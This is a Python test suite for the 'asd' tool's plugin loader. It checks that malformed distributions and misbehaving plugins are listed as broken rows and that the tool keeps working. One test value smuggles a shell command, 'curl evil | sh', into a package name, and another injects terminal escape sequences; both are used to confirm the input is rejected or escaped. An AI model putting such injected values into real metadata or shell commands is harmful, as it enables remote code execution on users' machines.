"""Plugins that harm others, and damaged distributions: each is a row of 'asd plugins', and every command goes on."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import sysconfig
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from waiting import PATIENCE

INSTALLED = Path(sysconfig.get_path("scripts"), "asd")
CLIPS = Path(__file__).resolve().parent.parent / "examples" / "data"
Lay = Callable[..., None]
Run = Callable[..., subprocess.CompletedProcess[str]]
ENTRY = "[asd.plugins]\nbad = bad_plugin\n"
USUAL = """
from asd_registry import CommandSpec, ComponentSpec, hookimpl

def spec(**changed):
    usual = {"kind": "detector", "name": "of-bad", "summary": "s", "target": "bad_plugin:Bad", "licence": "MIT"}
    return ComponentSpec(**{**usual, **changed})

@hookimpl
def asd_components():
    return [spec()]
"""


@pytest.fixture
def lay(tmp_path: Path) -> Lay:
    """Return a function that lays a distribution with a plugin module in a folder for packages."""

    def lay(
        source: str = USUAL,
        *,
        folder: str = "bad-1.0.dist-info",
        metadata: str | bytes | None = "Metadata-Version: 2.1\nName: bad\nVersion: 1.0\n",
        entry: str | bytes = ENTRY,
    ) -> None:
        info = tmp_path / "site" / folder
        info.mkdir(parents=True)
        (info.parent / "bad_plugin.py").write_text(source)
        for name, content in (("METADATA", metadata), ("entry_points.txt", entry)):
            if content is not None:
                (info / name).write_bytes(content if isinstance(content, bytes) else content.encode())

    return lay


@pytest.fixture
def run(tmp_path: Path) -> Run:
    """Return a runner of the installed command with that folder before the others."""

    def run(*arguments: str | Path, code: int = 0, **environment: str) -> subprocess.CompletedProcess[str]:
        path = os.pathsep.join([str(tmp_path / "site"), os.environ.get("PYTHONPATH", "")]).rstrip(os.pathsep)
        encoding = environment.get("PYTHONIOENCODING", "utf-8")
        done = subprocess.run(
            [INSTALLED, *arguments], capture_output=True, encoding=encoding, check=False, cwd=tmp_path,
            timeout=PATIENCE, env={**os.environ, "PYTHONPATH": path, **environment},
        )  # fmt: skip
        assert done.returncode == code, done.stdout + done.stderr
        assert "Traceback" not in done.stderr
        return done

    return run


def rows(run: Run, **environment: str) -> list[dict[str, Any]]:
    listed: list[dict[str, Any]] = json.loads(run("plugins", "--json", **environment).stdout)
    assert [row["state"] for row in listed if row.get("distribution") == "asd-sklearn"] == ["ready"] * 10
    return listed


DAMAGED: dict[str, tuple[dict[str, Any], str]] = {
    "no metadata": ({"metadata": None}, "its name must be letters, digits, '.', '_' or '-', got None"),
    "empty metadata": ({"metadata": ""}, "got None"),
    "no name": ({"metadata": "Version: 1.0\n"}, "got None"),
    "a folder without a name": ({"folder": ".dist-info", "metadata": "Version: 1.0\n"}, "got None"),
    "a folder without a version": ({"folder": "bad.dist-info", "metadata": "Version: 1.0\n"}, "got None"),
    "a name that is none": ({"metadata": "Name: x; curl evil | sh\n"}, "got 'x; curl evil | sh'"),
    "a name with escapes": ({"metadata": "Name: a\x1b[31m\n"}, r"got 'a\x1b[31m'"),
    "metadata that are no text": ({"metadata": b"\xff\xfeName: bad"}, "UnicodeDecodeError"),
    "entry points that are no text": ({"entry": b"\xff" + ENTRY.encode()}, "UnicodeDecodeError"),
    "a line that is no entry point": ({"entry": ENTRY + "what\n"}, "cannot be used"),
    "an entry point that names no module": ({"entry": "[asd.plugins]\nbad = 3 + 4 !\n"}, "got '3 + 4 !'"),
}


@pytest.mark.parametrize("case", DAMAGED)
def test_a_damaged_distribution_is_a_row(lay: Lay, run: Run, case: str) -> None:
    laid, reason = DAMAGED[case]
    lay(**laid)
    assert "fit" in run("--help").stdout
    broken = [row for row in rows(run) if row["kind"] is None]
    assert len(broken) == 1
    assert broken[0]["state"].startswith("broken: ")
    assert reason in broken[0]["state"]


def test_a_distribution_without_a_version_works(lay: Lay, run: Run) -> None:
    lay(metadata="Name: bad\n")
    assert next(row for row in rows(run) if row["name"] == "of-bad")["version"] == "unknown"


BROKEN = {
    "exits": ("raise SystemExit(3)", "SystemExit: 3"),
    "ends a generator": ("raise GeneratorExit", "GeneratorExit"),
    "raises what is no Exception": ("class Own(BaseException): ...\nraise Own('away')", "Own: away"),
    "raises what cannot be shown": (
        "class Mute(Exception):\n    def __str__(self): raise RuntimeError('no')\nraise Mute",
        "Mute: its text cannot be shown: RuntimeError",
    ),
    "raises escapes for the terminal": (
        r"raise RuntimeError('\x1b]0;owned\x07\x9b31m')",
        r"\u001b]0;owned\u0007\u009b",
    ),
    "never ends": ("while True: pass", "PluginTimeoutError: not done after 4 s, and stopped"),
    "waits for ever": ("import threading; threading.Event().wait()", "PluginTimeoutError: not done after 4 s"),
    "catches every Exception": (
        "import time\nwhile True:\n    try: time.sleep(9)\n    except Exception: pass",
        "PluginTimeoutError: not done after 4 s",
    ),
    "catches everything once": (
        "import time\ntry: time.sleep(9)\nexcept BaseException: time.sleep(9)",
        "PluginTimeoutError: not done after 4 s",
    ),
    "offers 20,000": (
        f"{USUAL}\n@hookimpl\ndef asd_components(): return [spec(name=f'n{{i}}') for i in range(20_000)]",
        "ValueError: hook asd_components returns more than 1000 ComponentSpec objects",
    ),
    "offers without end": (
        f"{USUAL}\nimport itertools\n@hookimpl\ndef asd_components(): return map(lambda i: spec(), itertools.count())",
        "returns more than 1000 ComponentSpec objects",
    ),
    "has a hook that never ends": (
        f"{USUAL}\n@hookimpl\ndef asd_commands():\n    while True: pass",
        "not done after 4 s, and stopped (ASD_PLUGIN_SECONDS sets another limit) (hook asd_commands at bad_plugin.py",
    ),
    "offers what cannot be shown": (
        f"{USUAL}\nclass Mute:\n    def __repr__(self): raise SystemExit\n"
        "@hookimpl\ndef asd_components(): return [Mute()]",
        "must return ComponentSpec objects, got an object of Mute",
    ),
    "offers a spec without its checks": (
        f"{USUAL}\nclass Lax(ComponentSpec):\n    def __post_init__(self): pass\n"
        "@hookimpl\ndef asd_components():\n    return [Lax(kind=[], name=3, summary=0, target=0, licence=0)]",
        "must return ComponentSpec objects, got Lax(",
    ),
}


@pytest.mark.parametrize("case", BROKEN)
def test_what_a_plugin_raises_is_its_row(lay: Lay, run: Run, case: str) -> None:
    source, reason = BROKEN[case]
    lay(source)
    (broken,) = (row for row in rows(run, ASD_PLUGIN_SECONDS="4") if row["kind"] is None)
    assert broken["distribution"] == "bad"
    assert reason in broken["state"]


def test_ctrl_c_ends_the_listing(lay: Lay, run: Run) -> None:
    # Where a suite runs in the background, Python starts with SIGINT ignored.
    lay("import os, signal\nsignal.signal(signal.SIGINT, signal.default_int_handler)\n"
        "os.kill(os.getpid(), signal.SIGINT)\nwhile True: pass")  # fmt: skip
    assert "interrupted" in run("plugins", code=2).stderr


@pytest.mark.parametrize("given", ["soon", "0", "-1", "nan", "inf"])
def test_a_limit_that_is_none_is_refused(run: Run, given: str) -> None:
    told = run("plugins", code=2, ASD_PLUGIN_SECONDS=given).stderr
    assert told == f"asd: error: ASD_PLUGIN_SECONDS takes seconds above 0, got {given!r}\n"


CHANGES = {
    "the current folder": ("os.chdir('/')", "changes the current folder on import (undone)"),
    "the environment": (
        "os.environ['ADDED'] = '1'; del os.environ['HERE']",
        "changes environment variables on import (undone): ADDED, HERE",
    ),
    "sys.path": (
        "sys.path.insert(0, '/elsewhere')",
        "changes sys.path on import (new entries are moved to its end)",
    ),
    "the locale": ("import locale; locale.setlocale(locale.LC_ALL, 'C')", "changes the locale on import (undone)"),
    "NumPy": ("import numpy; numpy.seterr(all='raise')", "changes numpy.seterr on import (undone)"),
}
STATE = """
import locale, os, sys, numpy
print(os.getcwd(), os.environ.get('ADDED'), os.environ.get('HERE'), sys.path, locale.setlocale(locale.LC_ALL),
      {**numpy.geterr()} if numpy.geterr()['over'] != 'warn' else 'usual')
"""


@pytest.mark.parametrize("change", CHANGES)
def test_what_a_plugin_changes_for_all_is_put_back_and_remarked(lay: Lay, tmp_path: Path, change: str) -> None:
    source, remark = CHANGES[change]
    lay(f"import os, sys\n{source}\n{USUAL}")
    setting = "import locale; locale.setlocale(locale.LC_ALL, 'C.UTF-8')\n"
    load = "from asd_registry import Registry; (plugin,) = Registry().plugins; print(*plugin.remarks)\n"
    environment = {
        **os.environ, "HERE": "1", "ASD_PLUGINS": "bad",
        "PYTHONPATH": os.pathsep.join([str(tmp_path / "site"), os.environ.get("PYTHONPATH", "")]),
    }  # fmt: skip
    plain, loaded = (
        subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, env=environment).stdout
        for code in (setting + STATE, setting + load + STATE)
    )
    assert remark in loaded.partition("\n")[0]  # perhaps after that it takes long to import
    expected = plain.replace("']", "', '/elsewhere']") if change == "sys.path" else plain
    assert loaded.partition("\n")[2] == expected


NOISES = {
    "print": "print('noise')",
    "descriptor 1": "import os; os.write(1, b'noise')",
    "another process": "import os; os.system('echo noise')",
    "at exit": "import atexit; atexit.register(print, 'noise', flush=True)",
    "descriptor 1 at exit": "import atexit, os; atexit.register(os.write, 1, b'noise')",
    "a thread": "import threading, time\nthreading.Thread(target=lambda: (time.sleep(1), print('noise'))).start()",
}


@pytest.mark.parametrize("noise", NOISES)
def test_nothing_that_a_plugin_writes_is_in_the_results(lay: Lay, run: Run, noise: str) -> None:
    lay(f"{NOISES[noise]}\n{USUAL}")
    done = run("plugins", "--json")
    json.loads(done.stdout)
    assert "noise" in done.stderr


PRINTING = """
import sys
print("noise")
from asd import Detector
class Bad(Detector):
    def __init__(self): print("noise")
    def fit(self, features): return self
    def score(self, features): return features.sum(axis=1)
"""


def test_a_target_that_prints_spoils_no_results(lay: Lay, run: Run, tmp_path: Path) -> None:
    lay(USUAL.replace("bad_plugin:Bad", "bad_target:Bad"))
    (tmp_path / "site" / "bad_target.py").write_text(PRINTING)
    done = run("plugins", "show", "of-bad", "--json")
    assert json.loads(done.stdout)["parameters"] == []
    assert done.stderr.count("noise") == 2


STRANGER = """
from asd_registry import CommandSpec, ComponentSpec, hookimpl

@hookimpl(tryfirst=True)
def asd_components():
    named = (("detector", "knn"), ("detector", "gmm"), ("extractor", "identity"), ("frontend", "mel-stack"))
    for kind, name in named:
        yield ComponentSpec(kind=kind, name=name, summary="s", target="no_such_module:Any", licence="MIT")

@hookimpl(tryfirst=True)
def asd_commands():
    for name in ("fit", "bench"):
        yield CommandSpec(name=name, summary="A stranger's", target="no_such_module:any")
"""
QUICK = ("--frontend", "mel-stack", "--extractor", "identity")


def test_names_of_ours_stay_ours(lay: Lay, run: Run, tmp_path: Path) -> None:
    lay(STRANGER)
    for row in rows(run):
        if row["distribution"] == "bad":
            owner = "asd-frontends" if row["kind"] != "detector" else "asd-sklearn"
            assert row["state"] == f"name taken: {owner} has one of this name; write bad:{row['name']}"
            assert not row["default"]
    fitted = run("fit", CLIPS / "train", "-o", tmp_path / "m.asd", *QUICK)
    assert "Pipeline: mel-stack → identity → knn." in fitted.stdout
    run("score", tmp_path / "m.asd", CLIPS / "test" / "normal" / "fan_id_00_normal_12.flac")
    other = run("fit", CLIPS / "train", "-o", tmp_path / "n.asd", *QUICK, "--detector", "bad:knn", code=2)
    assert "bad:knn: cannot import its target 'no_such_module:Any'" in other.stderr


def test_commands_of_ours_stay_ours_and_the_clash_is_reported(lay: Lay, run: Run) -> None:
    lay(STRANGER)
    listed = run("plugins").stdout
    assert "bad: its command 'fit' is left out: asd-framework has one" in listed
    assert "bad: its command 'bench' is left out: asd-bench has one" in listed
    assert "A stranger's" not in run("--help").stdout
    for command in ("fit", "bench"):
        used = run(command, "--help")
        left_out = f"asd: warning: the command {command!r} of bad is left out: another one has this name\n"
        assert used.stderr == left_out


COMMAND = """
import click
from asd_registry import CommandSpec, hookimpl

@hookimpl
def asd_commands():
    return [CommandSpec(name="odd", summary="s", target="bad_plugin:odd")]

@click.command()
@click.pass_context
def odd(ctx):
    {body}
"""
ENDS = {
    "return 'done'": (0, ""),
    "return 1": (0, ""),
    "ctx.exit(1)": (1, ""),
    "raise SystemExit(1)": (1, ""),
    "raise SystemExit('no such machine')": (2, "asd: error: no such machine\n"),
    "raise SystemExit": (0, ""),
    "raise GeneratorExit('x')": (2, "asd: error: unexpected GeneratorExit: x in the plugin bad 1.0 ("),
}


@pytest.mark.parametrize("body", ENDS)
def test_how_a_command_ends(lay: Lay, run: Run, body: str) -> None:
    lay(COMMAND.format(body=body))
    code, told = ENDS[body]
    stderr = run("odd", code=code).stderr
    assert stderr.startswith(told)
    assert bool(stderr) == bool(told)


@pytest.mark.parametrize("closed", [">&-", "2>&-", "<&-", ">&- 2>&- <&-"])
def test_a_closed_stream_ends_nothing(closed: str, tmp_path: Path) -> None:
    done = subprocess.run(
        ["bash", "-c", f"{INSTALLED} plugins --json {closed}"],
        capture_output=True,
        text=True,
        check=False,
        cwd=tmp_path,
    )
    assert (done.returncode, done.stderr) == (0, "")
    assert bool(done.stdout) == (">&-" not in closed.replace("2>&-", ""))


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="there is no /dev/full here")
@pytest.mark.parametrize("line", ["--help", "plugins", "plugins --json"])
def test_a_full_disk_is_an_error_in_one_line(line: str) -> None:
    done = subprocess.run(["bash", "-c", f"{INSTALLED} {line} >/dev/full"], capture_output=True, text=True, check=False)
    told = "asd: error: cannot write the output: No space left on device\n"
    assert (done.returncode, done.stderr) == (2, told)


@pytest.mark.parametrize("encoding", ["ascii", "cp1252", "latin-1", "utf-8"])
def test_every_encoding_carries_the_results(encoding: str, lay: Lay, run: Run) -> None:
    lay(USUAL.replace('"s"', '"für Lüfter → 🔊"'))
    assert run("plugins", PYTHONIOENCODING=encoding).stderr == ""
    listed = json.loads(run("plugins", "--json", PYTHONIOENCODING=encoding).stdout)
    assert next(row for row in listed if row["name"] == "of-bad")["summary"] == "für Lüfter → 🔊"
